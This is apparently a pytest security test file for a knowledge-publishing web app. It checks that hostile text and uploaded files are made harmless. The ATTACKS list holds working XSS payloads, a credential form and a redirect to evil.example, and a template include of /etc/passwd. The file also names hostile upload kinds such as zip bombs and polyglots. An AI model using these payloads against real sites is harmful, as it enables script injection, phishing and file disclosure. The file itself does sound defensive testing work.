"""What is written or sent to do harm: words stay words, and bytes that could run are gone."""

import io
import time
import zipfile
from typing import Any
from xml.etree import ElementTree as ET

import html5lib
import pytest

from network.files.actions import looking
from network.files.models import File, FilePart, FileState
from network.kernel import clock
from network.knowledge.actions import feeding, marking, writing
from network.knowledge.models import Item, Result, SafetyLevel, Version, VersionState
from network.people.models import Person
from tests import hostile_files as hostile
from tests.browser_client import Browser
from tests.factories import actor, make_centre, make_member
from tests.knowledge.makers import make_draft, make_editor, publish

pytestmark = pytest.mark.anyio

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover=alert(1) x='",
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "![x](https://tracker.example/pixel.png)",
    "</title></textarea><script>alert(1)</script>",
    "<form action=https://evil.example><input name=passphrase></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
EVERYTHING = "\n\n".join(ATTACKS)
_NEVER = {"iframe", "object", "embed", "base", "applet", "math", "frame"}
_SAFE_LINKS = ("/", "#", "?", "http://", "https://", "mailto:", "../", "index.html", "items/")


def assert_harmless(page: str) -> None:
    """Nothing runs, nothing is fetched from elsewhere, no form leads away."""
    for one in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(one.tag, str):
            continue
        assert one.tag not in _NEVER, one.tag
        assert not [name for name in one.attrib if str(name).lower().startswith("on")], one.attrib
        assert one.get("http-equiv", "").lower() != "refresh"
        assert one.get("href", "/").startswith(_SAFE_LINKS), one.get("href")
        assert one.get("src", "/").startswith("/"), one.get("src")
        assert one.get("action", "/").startswith("/"), one.get("action")
        assert one.tag != "script" or (one.get("src") and not one.text), one.text


async def attacked(owner_person: Person) -> Item:
    """A published item of two versions, all of whose texts are attacks."""
    owner = await actor(owner_person)
    words: dict[str, Any] = {
        "title": "".join(ATTACKS).replace("\n", " ")[:190],
        "authors": ATTACKS[0] + ATTACKS[2],
        "details": {"from_method": "AP-NET", "changed": EVERYTHING, "failed": EVERYTHING},
        **dict.fromkeys(("summary", "body", "sources"), EVERYTHING),
    }
    item = await publish(
        await make_draft(owner, kind="KT-ADAP", level=SafetyLevel.PUBLIC, **words), owner
    )
    second = await writing.new_draft(owner, item)
    await writing.save(owner, second, item, second.version, {"body": EVERYTHING[::-1] + EVERYTHING})
    item = await publish(await Version.get(id=second.id), owner)
    centre_id = next(iter(owner.centre_ids))
    today = clock.now().date()
    await marking.tell_trial(owner, item, centre_id, Result.WORKED, EVERYTHING, today)
    source = marking.Source(ATTACKS[0], ATTACKS[2], today, what=EVERYTHING)
    await marking.cite(await actor(await make_editor()), item, source)
    await writing.new_draft(owner, item)
    await marking.watch(owner, item, on=True)
    return item


async def test_attacks_in_every_text_are_words_on_every_page(browser: Browser) -> None:
    owner = await make_member(await make_centre())
    item = await attacked(owner)
    draft = await Version.get(item_id=item.id, state=VersionState.DRAFT)
    await browser.sign_in_as(owner)
    path = f"/knowledge/{item.id}"

    for page in (
        path,
        f"{path}/versions",
        f"{path}/changes",
        f"{path}/hold",
        f"{path}/owner",
        f"/knowledge/texts/{draft.id}",
        f"/knowledge/texts/{draft.id}/edit",
        "/knowledge",
        "/knowledge/mine",
        "/knowledge/watching",
        "/search?q=alert",
        f"{path}/export/html",
    ):
        answer = await browser.get(page)
        assert answer.status_code == 200, page
        assert_harmless(answer.text)


async def test_attacks_stay_words_in_packs_and_feeds(browser: Browser) -> None:
    owner = await make_member(await make_centre())
    item = await attacked(owner)
    token = await feeding.open_feed(await actor(owner), "Reader")

    feeds = [await browser.get(a) for a in ("/knowledge/feed.atom", f"/feed/{token}.atom")]
    await browser.sign_in_as(owner)
    packed = await browser.get(f"/knowledge/{item.id}/export/zip")
    paper = await browser.get(f"/knowledge/{item.id}/export/pdf")

    for feed in feeds:
        root = ET.fromstring(feed.text)  # noqa: S314 (our own)
        assert {one.tag.partition("}")[2] for one in root.iter()} <= {
            *("feed", "title", "id", "link", "updated", "entry", "author", "name", "summary"),
        }
        assert all(
            one.get("href", "https://").startswith("https://portal.test/")
            for one in root.iter()
            if one.get("href")
        )
    with zipfile.ZipFile(io.BytesIO(packed.content)) as pack:
        for name in pack.namelist():
            if name.endswith(".html"):
                assert_harmless(pack.read(name).decode())
    assert (paper.status_code, paper.content[:5]) == (200, b"%PDF-")
    for act in (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch"):
        assert act not in paper.content


# too much, and turned round ----------------------------------------------------------------------


async def draft_of(person: Person) -> Version:
    return await make_draft(await actor(person))


def words(**given: str) -> dict[str, str]:
    plain = {"title": "T", "body": "B", "kind": "KT-GUID", "level": "S1", "year": "2026"}
    return plain | {"licence": "members", "version": "1"} | given


@pytest.mark.parametrize("field", ["title", "authors", "summary", "body"])
@pytest.mark.parametrize("act", ["edit", "autosave"])
async def test_five_megabytes_in_a_field_are_refused_at_once_and_nothing_is_lost(
    browser: Browser, field: str, act: str
) -> None:
    person = await make_member(await make_centre())
    version = await draft_of(person)
    await browser.sign_in_as(person)
    started = time.monotonic()

    answer = await browser.post(
        f"/knowledge/texts/{version.id}/{act}", words(**{field: "a" * 5_000_000})
    )

    assert answer.status_code in (413, 422)
    assert time.monotonic() - started < 60
    assert len(answer.content) < 100_000
    kept = await Version.get(id=version.id)
    assert (kept.title, kept.version) == ("Graded exercise for chronic pain", 1)


@pytest.mark.parametrize("field", ["title", "authors", "summary", "body"])
async def test_signs_that_turn_the_order_round_are_refused_by_name(
    browser: Browser, field: str
) -> None:
    person = await make_member(await make_centre())
    version = await draft_of(person)
    await browser.sign_in_as(person)
    turned = words(**{field: "Plan \u202etxt.exe\u202c \u2066of\u2069 calm"})

    answer = await browser.post(f"/knowledge/texts/{version.id}/edit", turned)

    assert answer.status_code == 422
    assert "There are invisible signs in this text. Type it again." in answer.text
    assert (await Version.get(id=version.id)).version == 1


# files -------------------------------------------------------------------------------------------

_HTML = b"<html><script>alert(document.domain)</script></html>"
_SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HOSTILE: dict[str, tuple[hostile.Content, str]] = {
    "zip-bomb.docx": (hostile.zip_bomb, "too-heavy"),
    "lying-zip.docx": (hostile.lying_zip, "broken"),
    "laughing.docx": (hostile.laughing_docx(), "too-heavy"),
    "picture-bomb.png": (hostile.picture_bomb(), "too-heavy"),
    "drawing.png": (_SVG, "other-kind"),
    "drawing.txt": (_SVG, "other-kind"),
    "page.jpg": (_HTML, "other-kind"),
    "gif-and-pdf.pdf": (b"GIF89a/*" + hostile.pdf(), "other-kind"),
    "page-and-pdf.pdf": (_HTML + hostile.pdf(), "other-kind"),
    "macro.docx": (hostile.docx(word__vbaProject_dot_bin=b"x"), "can-run"),
}


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_file_is_refused_with_a_reason_and_none_of_its_bytes_stay(
    browser: Browser, name: str
) -> None:
    content, reason = HOSTILE[name]
    version, answer = await sent(browser, name, hostile.made(content))

    await looking.look_at_waiting()

    file = await File.get()
    page = await browser.get(f"/knowledge/{version.item_id}/files?of=en")
    download = await browser.get(f"/knowledge/{version.item_id}/files/{file.id}")
    assert answer == 303
    assert (file.state, file.reasons) == (FileState.REFUSED, [reason])
    assert await FilePart.all().count() == 0
    assert (page.status_code, download.status_code) == (200, 404)
    assert "Not taken" in page.text


async def sent(browser: Browser, name: str, content: bytes) -> tuple[Version, int]:
    person = await make_member(await make_centre())
    version = await draft_of(person)
    await browser.sign_in_as(person)
    answer = await browser.post(
        f"/knowledge/{version.item_id}/files?of=en", files={"file": (name, content, "x/y")}
    )
    return version, answer.status_code


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("pdf-and-page.pdf", hostile.pdf("Calm words") + _HTML),
        ("pdf-and-zip.pdf", hostile.pdf("Calm words") + hostile.zipped({"evil.html": _HTML})),
        ("picture-and-page.jpg", hostile.jpeg() + _HTML),
        ("picture-and-zip.jpg", hostile.jpeg() + hostile.zipped({"evil.html": _HTML})),
        ("picture-and-page.png", hostile.png() + _HTML),
        ("acting.pdf", hostile.pdf_that_acts()),
    ],
)
async def test_of_a_file_that_is_two_things_at_once_only_the_harmless_one_stays(
    browser: Browser, name: str, content: bytes
) -> None:
    version, _status = await sent(browser, name, content)
    await looking.look_at_waiting()
    file = await File.get()
    assert file.state is FileState.READY

    answer = await browser.get(f"/knowledge/{version.item_id}/files/{file.id}")

    assert answer.status_code == 200
    for trace in (b"<script", b"alert(", b"PK\x03\x04", b"/JavaScript", b"/OpenAction", b"/Launch"):
        assert trace not in answer.content
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["content-security-policy"].startswith("sandbox")


@pytest.mark.parametrize("content", [hostile.pdf_that_hangs, hostile.pdf_bomb])
async def test_a_pdf_that_hangs_its_reader_keeps_nobody_waiting(
    browser: Browser, content: hostile.Content
) -> None:
    given = hostile.made(content)
    started = time.monotonic()
    version, status = await sent(browser, "slow.pdf", given)
    arrived = time.monotonic() - started
    await looking.look_at_waiting()
    looked_at = time.monotonic() - started - arrived

    page = await browser.get(f"/knowledge/{version.item_id}/files?of=en")

    assert (status, page.status_code) == (303, 200)
    assert arrived < 60
    assert looked_at < 180
    assert (await File.get()).state in (FileState.READY, FileState.REFUSED)


async def test_a_name_that_reads_backwards_is_shown_as_it_is_spelled(browser: Browser) -> None:
    version, status = await sent(browser, "plan\u202efdp.txt", b"Calm words")
    await looking.look_at_waiting()

    page = await browser.get(f"/knowledge/{version.item_id}/files?of=en")

    assert status == 303
    assert "planfdp.txt" in page.text
    assert "\u202e" not in page.text
